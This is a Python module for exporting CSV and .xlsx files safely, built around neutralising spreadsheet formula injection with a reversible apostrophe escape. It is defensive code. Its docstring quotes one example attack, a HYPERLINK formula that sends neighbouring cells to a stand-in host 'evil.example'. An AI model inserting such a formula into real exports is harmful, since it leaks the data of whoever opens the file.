"""CSV and .xlsx files that are data, never formulas (CSV/formula injection, OWASP).

A spreadsheet program evaluates a cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, with a tab or a carriage return before one of them) as a formula: a comment typed as
``=HYPERLINK("http://evil.example/?"&A1,"点击")`` would become a live link that sends the neighbouring cells
away when an auditor opens the export. Every text cell an export writes goes through :func:`neutral`,
which puts an apostrophe in front of such a text — the mark spreadsheet programs themselves use for
"this is text" — and .xlsx cells are written as strings explicitly (openpyxl would otherwise store a text
beginning with ``=`` as a formula).

The apostrophe is reversible where the file must be read back exactly (the verifiable audit CSV):
:func:`neutral` also marks a text that already begins with an apostrophe followed by one of those characters,
so :func:`restore` undoes exactly what :func:`neutral` did, for every string.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: The leading characters that make a spreadsheet program read a text as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_MARK = "'"


def neutral(value: Any) -> Any:
    """``value`` as a cell that no spreadsheet program evaluates: texts beginning with a formula character
    get an apostrophe in front; other values are returned unchanged."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_STARTS) or (
        value.startswith(_MARK) and value[1:2] and value[1] in (*FORMULA_STARTS, _MARK)
    ):
        return _MARK + value
    return value


def restore(text: str) -> str:
    """The text :func:`neutral` was given (exactly, for every string)."""
    if text.startswith(_MARK) and text[1:2] and text[1] in (*FORMULA_STARTS, _MARK):
        return text[1:]
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]], *, bom: bool = True) -> str:
    """A CSV (with a BOM so that Excel reads UTF-8) of neutral cells: dates ISO, None empty."""
    out = io.StringIO()
    if bom:
        out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutral(h) for h in header])
    for row in rows:
        writer.writerow([neutral(_plain(v)) for v in row])
    return out.getvalue()


def _plain(v: Any) -> Any:
    if v is None:
        return ""
    if isinstance(v, dt.date):
        return v.isoformat()
    return v


def workbook(title: str, header: Iterable[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """An .xlsx with a bold, frozen header row and columns wide enough for Chinese text."""
    return workbook_of([(title, header, rows)])


def workbook_of(sheets: Iterable[tuple[str, Iterable[str], Iterable[Sequence[Any]]]]) -> bytes:
    """An .xlsx with one sheet per (title, header, rows), each as :func:`workbook` lays one out."""
    wb = Workbook()
    first = wb.active
    assert first is not None
    wb.remove(first)
    for title, header, rows in sheets:
        _sheet(wb, title, header, rows)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _set(cell: Cell, value: Any) -> None:
    """Write ``value`` into ``cell``: a text always as a string cell (never a formula), neutralised."""
    if isinstance(value, str):
        # Control characters an .xlsx cannot hold (openpyxl refuses them) are shown as U+FFFD.
        cell.value = neutral(ILLEGAL_CHARACTERS_RE.sub("\ufffd", value))
        cell.data_type = "s"
    else:
        cell.value = value


def _width(v: Any) -> int:
    text = v.isoformat() if isinstance(v, dt.date) else str(v if v is not None else "")
    longest = max((sum(2 if ord(c) > 0x2E7F else 1 for c in line) for line in text.splitlines()), default=0)
    return longest + 2


def _sheet(wb: Workbook, title: str, header: Iterable[str], rows: Iterable[Sequence[Any]]) -> None:
    # Excel refuses sheet titles over 31 characters or with []:*?/\ in them.
    ws = wb.create_sheet(re.sub(r"[\[\]:*?/\\]", "", title)[:31] or "Sheet")
    head = list(header)
    for i, h in enumerate(head, start=1):
        cell = ws.cell(row=1, column=i)
        _set(cell, h)
        cell.font = Font(bold=True)
        cell.fill = PatternFill("solid", fgColor="DDE7F3")
        cell.alignment = Alignment(vertical="center")
    widths = [len(h) * 2 + 2 for h in head]
    for r, row in enumerate(rows, start=2):
        for i, v in enumerate(row):
            cell = ws.cell(row=r, column=i + 1)
            _set(cell, v)
            if isinstance(v, dt.date):
                cell.number_format = "yyyy-mm-dd"
            if isinstance(v, str) and "\n" in v:
                cell.alignment = Alignment(wrap_text=True, vertical="top")
            if i < len(widths):
                widths[i] = min(60, max(widths[i], _width(v)))
    for i, w in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = w
    ws.freeze_panes = "A2"


__all__ = ["FORMULA_STARTS", "XLSX", "csv_text", "neutral", "restore", "workbook", "workbook_of"]
